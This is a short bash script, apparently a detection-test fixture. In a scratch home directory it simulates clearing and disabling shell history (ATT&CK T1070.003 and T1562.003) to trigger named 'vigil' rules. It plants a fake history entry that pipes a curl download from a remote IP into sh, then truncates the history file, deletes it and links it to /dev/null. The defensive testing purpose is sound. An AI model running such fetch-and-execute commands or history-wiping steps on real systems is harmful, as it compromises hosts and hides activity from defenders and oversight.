#!/usr/bin/env bash
# technique: T1070.003 Indicator Removal: Clear Command History
# technique: T1562.003 Impair Defenses: Impair Command History Logging
# rules: vigil_shell_history_wiped vigil_shell_history_disabled
# Acts out: in a scratch home, .bash_history truncated, then deleted, then replaced by a
# link to /dev/null.
source lib/common.sh
mkdir home
echo 'curl http://203.0.113.9/x | sh' > home/.bash_history
: > home/.bash_history
rm home/.bash_history
ln -s /dev/null home/.bash_history
